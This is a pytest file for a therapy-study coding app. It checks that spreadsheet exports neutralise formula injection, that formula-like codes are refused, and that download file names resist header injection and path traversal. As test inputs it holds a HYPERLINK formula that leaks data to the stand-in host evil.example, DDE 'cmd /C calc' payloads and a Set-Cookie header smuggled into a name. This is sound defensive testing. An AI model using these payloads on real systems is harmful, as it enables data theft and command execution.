"""What a probe of coder's exports and inputs found, each fixed and held here: formulas in spreadsheet exports,
download names, numbers too large for the database, model paths on the processing form, request bodies,
the reliability command's CSV, partial RTTM files and WAV headers."""
from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update

from coder.config import load_settings
from coder.reports import aggregation, outcomes
from coder.stats import sheetsafe
from coder.study import audit, tree
from coder.study.accounts import AccountError, create_user
from coder.study.models import Client, Dyad, Study, Therapist, TherapySession, User
from coder.web import jsonapi
from coder.web.app import create_app

from .support.analysis_study import build_planned
from .support.rating_study import PASSWORD
from .support.web import login

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
STUDY = "Étude Über 研究"
PLAN = [("D1", 1, "A", "ana", 2), ("D1", 1, "A", "ben", 4), ("D1", 2, "B", "ana", 1), ("D2", 1, "C", "ana", 3),
        ("D2", 2, "D", "ben", 0)]


# --- exports and names --------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), (DDE, "'" + DDE), (AT, "'" + AT), (MINUS, "'" + MINUS), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("+3", "+3"), ("-2e3", "-2e3"), ("T07", "T07"), ("", ""),
    (-1.5, -1.5), (None, None), ("a=b", "a=b"), ("-inf", "'-inf"),
])
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(value, safe):
    assert sheetsafe.cell(value) == safe


def test_frames_keep_numbers_numbers():
    table = pd.DataFrame({"code": [HYPERLINK, "T1"], "score": [-1.5, 2.0], "=name": ["-3", "x"]})
    safe = sheetsafe.frame(table)
    assert list(safe.columns) == ["code", "score", "'=name"]
    assert safe["code"].tolist() == ["'" + HYPERLINK, "T1"] and safe["score"].tolist() == [-1.5, 2.0]
    assert safe["'=name"].tolist() == ["-3", "x"] and table["code"][0] == HYPERLINK  # the original is kept


@pytest.fixture
def poisoned(tmp_path, database):
    """A study with a non-ASCII name whose codes, time points and an outcome were stored before codes were
    checked: they look like spreadsheet formulas."""
    built = build_planned(database, PLAN, study_name=STUDY)
    with database.session() as db:
        study = db.get(Study, built["study_id"])
        db.execute(update(Dyad).where(Dyad.code == "D1").values(code=HYPERLINK))
        db.execute(update(Therapist).where(Therapist.code == "T1").values(code=DDE))
        db.execute(update(Client).where(Client.code == "C2").values(code=AT))
        db.execute(update(TherapySession).values(time_point=MINUS))
        path = tmp_path / "outcomes.csv"
        path.write_text(f'client,hads_anx_pre,sex\nC1,-4,"{MINUS}"\n"{AT}",10,m\n')
        outcomes.import_csv(db, study, path)
        db.commit()
    settings = load_settings(home=tmp_path / "home", database_url=database.url)
    app = create_app(settings, database, {"TESTING": True})
    client = app.test_client()
    login(client, "coord")
    return client, built["study_id"], database


def _values(rows) -> set:
    return {v for row in rows for v in row}


def _no_live_formula(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(sheetsafe.FORMULA_STARTS) or re.fullmatch(r"[+-][0-9.e]+", value), value


def test_table_exports_neutralise_formulas_and_keep_negative_numbers(poisoned):
    client, study_id, _database = poisoned
    for name in ("dyads", "sessions", "long", "units"):
        response = client.get(f"/analysis/{study_id}/tables/{name}.csv")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        values = _values(rows)
        _no_live_formula(values)
        if name in ("dyads", "sessions"):
            assert "'" + HYPERLINK in values and "'" + DDE in values
    dyads = pd.read_csv(io.BytesIO(client.get(f"/analysis/{study_id}/tables/dyads.csv").data))
    assert sorted(dyads["hads_anx_pre"].dropna()) == [-4, 10] and "'" + MINUS in dyads["sex"].tolist()
    assert "'" + MINUS in pd.read_csv(io.BytesIO(client.get(f"/analysis/{study_id}/tables/sessions.csv").data))[
        "time_point"].tolist()

    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/analysis/{study_id}/tables/tables.xlsx").data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell holds a formula"
    _no_live_formula(c.value for c in cells)
    sheet = book["dyads"]
    header = [c.value for c in sheet[1]]
    column = header.index("hads_anx_pre") + 1
    numbers = [sheet.cell(r, column).value for r in range(2, sheet.max_row + 1)]
    assert -4 in numbers and all(isinstance(v, (int, float)) for v in numbers if v is not None)
    assert "'" + HYPERLINK in {c.value for c in sheet["A"]} | {c.value for row in sheet.iter_rows() for c in row}


def test_every_other_csv_export_neutralises_formulas(poisoned, tmp_path):
    client, study_id, database = poisoned
    with database.session() as db:
        study = db.get(Study, study_id)
        tables = aggregation.aggregate(db, study, aggregation.Rule())
        db.add(User(username="eve", password_hash="x", role="rater", display_name=HYPERLINK))
        audit.audit(db, "create", study, None, name=HYPERLINK)
        db.commit()
        trail = audit.to_csv(db, audit.trail(db.scalar(select(User).where(User.username == "coord")), [study_id]))
    for path in aggregation.write(tables, tmp_path / "out", ("csv",)):
        _no_live_formula(_values(csv.reader(path.open(encoding="utf-8"))))
    _no_live_formula(_values(csv.reader(io.StringIO(trail))))
    audit_csv = client.get("/audit?format=csv")
    assert audit_csv.status_code == 200
    _no_live_formula(_values(csv.reader(io.StringIO(audit_csv.get_data(as_text=True)))))


def test_codes_that_start_like_formulas_are_refused(database):
    with database.session() as db:
        study = tree.get_or_create_study(db, "Trial H")
        for therapist, client, dyad in ((HYPERLINK, "C1", "D1"), ("T1", DDE, "D1"), ("T1", "C1", AT),
                                        ("T1", "C1", "\tD1"), ("T1", "C1", "-D1")):
            with pytest.raises(tree.StudyError, match="spreadsheet would take for a formula|control character"):
                tree.get_or_create_dyad(db, study, therapist, client, dyad)
        with pytest.raises(tree.StudyError, match="formula"):
            tree.add_participant(db, study, "client", "=C9", None)
        dyad = tree.get_or_create_dyad(db, study, "T1", "C1", "D1")
        with pytest.raises(tree.StudyError, match="the time point '@week 6' starts with '@'"):
            tree.get_or_create_session(db, dyad, 1, time_point="@week 6")
        with pytest.raises(tree.StudyError, match="the treatment arm"):
            tree.get_or_create_session(db, dyad, 1, treatment_arm="+CBT")
        assert tree.get_or_create_session(db, dyad, 1, time_point="-1").time_point == "-1"  # only a number
        creator = create_user(db, "creator", PASSWORD, "coordinator")
        for name in ("Trial\r\nX", "Trial\x00", "Tab\there", "Line\u2028break"):
            with pytest.raises(tree.StudyError, match="control character"):
                tree.create_study(db, name, "", creator)
        with pytest.raises(AccountError, match="control character"):
            create_user(db, "mallory", PASSWORD, "rater", "Mal\nlory")
        db.rollback()
        assert db.scalar(select(Dyad)) is None


def test_the_browser_forms_and_the_manifest_refuse_formula_codes(tmp_path, database):
    from .support.audio import write_tone
    from coder.study import ingest

    with database.session() as db:
        create_user(db, "coord", PASSWORD, "coordinator")
    app = create_app(load_settings(home=tmp_path / "home", database_url=database.url), database,
                     {"TESTING": True, "WTF_CSRF_ENABLED": False})
    client = app.test_client()
    login(client, "coord")
    created = client.post("/studies/new", data={"name": STUDY, "description": ""})
    study_id = int(created.location.rsplit("/", 1)[1])
    page = client.post(f"/studies/{study_id}/participants", data={"kind": "therapist", "code": DDE},
                       follow_redirects=True).get_data(as_text=True)
    assert "would take for a formula" in page
    bad_name = client.post("/studies/new", data={"name": "Trial\nB", "description": ""}, follow_redirects=True)
    assert "control character" in bad_name.get_data(as_text=True)
    write_tone(tmp_path / "s1.wav", 1.0)
    with (tmp_path / "manifest.csv").open("w", newline="") as f:
        csv.writer(f).writerows([["file", "therapist", "client", "session"], ["s1.wav", HYPERLINK, "C1", "1"]])
    report = ingest.ingest_manifest(database, tmp_path / "manifest.csv", study=STUDY)
    assert not report.registered and "formula" in report.errors[0][2]
    with database.session() as db:
        assert db.scalar(select(Therapist)) is None


def _filename(response) -> str:
    header = response.headers["Content-Disposition"]
    star = re.search(r"filename\*=UTF-8''([^;]+)", header)
    return unquote(star.group(1)) if star else re.search(r'filename="([^"]*)"', header).group(1)


def test_downloads_of_a_study_with_a_non_ascii_name(poisoned):
    client, study_id, database = poisoned
    for url, name in ((f"/analysis/{study_id}/tables/dyads.csv", "Étude_Über_研究-dyads.csv"),
                      (f"/analysis/{study_id}/tables/tables.xlsx", "Étude_Über_研究-tables.xlsx"),
                      (f"/reliability/{study_id}/homework-engagement/export.csv",
                       "reliability-Étude_Über_研究-homework-engagement-v1.csv"),
                      (f"/reliability/{study_id}/homework-engagement/export.json",
                       "reliability-Étude_Über_研究-homework-engagement-v1.json")):
        response = client.get(url)
        assert response.status_code == 200, url
        header = response.headers["Content-Disposition"]
        header.encode("latin-1")  # what a WSGI server must be able to send
        assert re.search(r'filename="[A-Za-z0-9._-]+"', header) and _filename(response) == name
    # a name from before names were checked, with a line break in it
    with database.session() as db:
        db.execute(update(Study).where(Study.id == study_id).values(name="Trial\r\nSet-Cookie: x=1"))
        db.commit()
    response = client.get(f"/analysis/{study_id}/tables/dyads.csv")
    assert response.status_code == 200 and "Set-Cookie" not in response.headers
    assert "\n" not in response.headers["Content-Disposition"] and _filename(response).endswith("-dyads.csv")


@pytest.mark.parametrize("name, fallback", [
    ("report.csv", "report.csv"), ("recording-3.deidentified.txt", "recording-3.deidentified.txt"),
    ("Étude Über 研究.csv", "Etude_Uber.csv"), ("研究.csv", "download.csv"), ('a"b\r\nc.csv', "a_b_c.csv"),
    ("../../x.csv", "x.csv"),
])
def test_the_content_disposition_of_any_name(name, fallback):
    header = jsonapi.disposition(name)
    header.encode("latin-1")
    assert f'filename="{fallback}"' in header
    assert ("filename*=" in header) == (fallback != name and not name.isascii() or "/" in name)
    if not name.isascii():
        assert unquote(header.split("filename*=UTF-8''")[1]) == name
    if "filename*=" in header:
        exact = unquote(header.split("filename*=UTF-8''")[1])
        assert "\r" not in exact and "\n" not in exact and "/" not in exact and '"' not in exact
